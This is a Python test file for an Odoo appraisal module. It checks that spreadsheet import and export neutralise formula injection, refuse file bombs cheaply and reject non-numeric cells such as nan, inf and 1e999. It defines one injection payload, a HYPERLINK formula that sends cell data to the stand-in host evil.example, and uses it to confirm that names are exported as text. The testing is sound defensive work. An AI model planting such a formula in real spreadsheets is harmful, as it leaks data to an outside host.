"""Sheets at the edge: a name that is a formula, a file that declares more than it holds, cells that
are not numbers.  Every one ends in a clean message naming the cell, or in text — never a traceback
and never a live formula in the sheet HR opens."""

import base64
import csv
import io
import tracemalloc
import zipfile

import openpyxl

from odoo.exceptions import UserError
from odoo.tests import tagged

from .common import PerfCase

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


@tagged("post_install", "-at_install")
class TestImportEdges(PerfCase):

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.cycle = cls.make_cycle(cls.nursing, employee_ids=[(6, 0, cls.nurses.ids)], role_ids=cls.role_owners())
        cls.cycle.action_start()
        cls.zhang = cls.nurses[0]

    def wizard(self, user=None, **values):
        return self.env["perf.import.wizard"].with_user(user or self.officer).create({"cycle_id": self.cycle.id, **values})

    def template(self, kind="scores", file_format="xlsx", user=None):
        action = self.wizard(user, kind=kind, file_format=file_format).action_export_template()
        return self.env["ir.attachment"].browse(int(action["url"].split("/")[3].split("?")[0])).raw

    def upload(self, content, filename="sheet.xlsx", kind="scores", user=None):
        wizard = self.wizard(user, kind=kind, data=base64.b64encode(content), filename=filename)
        wizard.action_import()
        return wizard

    # -- formulas --------------------------------------------------------------------------------------
    def test_a_name_that_is_a_formula_stays_text(self):
        """A nurse named =HYPERLINK(…): in the XLSX template her name is a text cell (no formula), in
        the CSV it is prefixed with ' (what spreadsheets read as "this is text"); numbers stay numbers."""
        self.zhang.name = FORMULA
        book = openpyxl.load_workbook(io.BytesIO(self.template()))
        cells = [cell for row in book.active.iter_rows(min_row=3) for cell in row if cell.value == FORMULA]
        self.assertEqual([cell.data_type for cell in cells], ["s"])
        rows = list(csv.reader(io.StringIO(self.template(file_format="csv").decode("utf-8-sig"))))
        self.assertIn("'" + FORMULA, [cell for row in rows for cell in row])
        self.assertNotIn(FORMULA, [cell for row in rows for cell in row])

    def test_the_ranking_sheet_holds_no_formula(self):
        """HR's ranking XLSX of a computed month: the formula-named nurse's name is text."""
        self.zhang.name = FORMULA
        self.enter_example_scores(self.cycle)
        self.cycle.action_compute()
        action = self.cycle.with_user(self.officer).action_export_ranking()
        raw = self.env["ir.attachment"].browse(int(action["url"].split("/web/content/")[1].split("?")[0])).raw
        book = openpyxl.load_workbook(io.BytesIO(raw))
        types = [cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
                 if isinstance(cell.value, str) and cell.value.startswith("=")]
        self.assertEqual(types, ["s"])

    def test_a_quoted_formula_in_a_csv_comes_back_as_typed(self):
        """The CSV's ' before a formula-like text is the export's, not the user's: an event note
        '=1+1 is imported as =1+1."""
        rows = [["Key", "Date", "Code", "Count", "Points", "Note"], ["key", "date", "code", "count", "points", "note"],
                [f"E{self.zhang.id}", "2024-05-10", "praise", "1", "", "'=1+1"]]
        buffer = io.StringIO()
        csv.writer(buffer).writerows(rows)
        self.upload(buffer.getvalue().encode(), filename="events.csv", kind="events")
        event = self.env["perf.event"].search([("employee_id", "=", self.zhang.id)])
        self.assertEqual(event.note, "=1+1")

    # -- file bombs ------------------------------------------------------------------------------------
    def assert_refused_within(self, content, filename, pattern, mebibytes):
        """The upload is refused, reading it costing under ``mebibytes`` beyond the upload itself."""
        wizard = self.wizard(kind="scores", data=base64.b64encode(content), filename=filename)
        self.assertTrue(wizard.data)  # the upload, in the cache: what it costs is not the reading's
        tracemalloc.start()
        try:
            with self.assertRaisesRegex(UserError, pattern):
                wizard.action_import()
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        self.assertLess(peak, mebibytes * 2**20, f"peak {peak / 2**20:.1f} MiB")

    def test_a_sheet_declaring_a_million_cells_is_refused_cheaply(self):
        """4 KB declaring A1:XFD1500 (24.6 million cells): refused by its size before any is made."""
        book = openpyxl.Workbook()
        book.active.append(["Key", "Badge", "Name"])
        book.active.append(["key", "badge", "name"])
        book.active["XFD1500"] = 1
        buffer = io.BytesIO()
        book.save(buffer)
        self.assertLess(len(buffer.getvalue()), 10_000)
        self.assert_refused_within(buffer.getvalue(), "bomb.xlsx", "columns", 16)

    def test_a_csv_of_empty_lines_costs_nothing(self):
        """1.5 MiB of empty lines: read as a stream, refused as having no key row, in little memory."""
        self.assert_refused_within(b"\n" * (3 * 2**19), "empty.csv", "key row", 8)

    def test_a_csv_with_a_huge_row_is_refused(self):
        """One line of 20,000 commas: more columns than a sheet of this product has."""
        self.assert_refused_within(b"Key,Badge,Name\nkey,badge,name\n" + b"," * 20000 + b"\n", "wide.csv",
                                   "columns", 16)

    # -- cells and files that are not what they say -------------------------------------------------------
    def test_not_a_file(self):
        """data 'abc' (not base64) and a ZIP that is not a workbook: clean messages."""
        wizard = self.wizard(kind="scores", filename="x.xlsx")
        wizard.write({"data": "abc"})
        with self.assertRaisesRegex(UserError, "file"):
            wizard.action_import()
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("hello.txt", "hi")
        with self.assertRaisesRegex(UserError, "Excel"):
            self.upload(buffer.getvalue())

    def test_a_chart_as_the_active_sheet(self):
        """A workbook whose active sheet is a chart: its first worksheet is read."""
        from openpyxl.chart import BarChart

        book = openpyxl.load_workbook(io.BytesIO(self.template(user=self.survey_clerk)))
        chart = book.create_chartsheet("图表")
        chart.add_chart(BarChart())
        book.active = book.sheetnames.index(chart.title)
        buffer = io.BytesIO()
        book.save(buffer)
        self.assertEqual(self.upload(buffer.getvalue(), user=self.survey_clerk).result, "0 values imported.")

    def test_cells_that_are_not_numbers(self):
        """nan, inf, 1e999 and 2**31 in the survey clerk's 患者 column and in an event's count: each
        named, nothing written."""
        book = openpyxl.load_workbook(io.BytesIO(self.template(user=self.survey_clerk)))
        sheet = book.active
        keys = [cell.value for cell in sheet[2]]
        column = keys.index("patient|patient|") + 1
        for row, value in zip(range(3, 7), ("nan", "inf", "1e999", 2**31)):
            sheet.cell(row=row, column=column, value=value)
        buffer = io.BytesIO()
        book.save(buffer)
        with self.assertRaises(UserError) as info:
            self.upload(buffer.getvalue(), user=self.survey_clerk)
        self.assertIn("4 problem(s)", str(info.exception))
        for row in range(3, 7):
            self.assertIn(f"row {row},", str(info.exception))
        rows = [["Key", "Date", "Code", "Count", "Points", "Note"], ["key", "date", "code", "count", "points", "note"]]
        rows += [[f"E{self.zhang.id}", "2024-05-10", "praise", count, None, None]
                 for count in ("1e999", "nan", 2**31, "inf", -1)]
        events = openpyxl.Workbook()
        for row in rows:
            events.active.append(row)
        buffer = io.BytesIO()
        events.save(buffer)
        with self.assertRaises(UserError) as info:
            self.upload(buffer.getvalue(), kind="events")
        self.assertIn("5 problem(s)", str(info.exception))
        self.assertFalse(self.env["perf.event"].search([("employee_id", "=", self.zhang.id)]))
        self.assertFalse(self.cycle.appraisal_ids.score_ids.filtered("rated"))
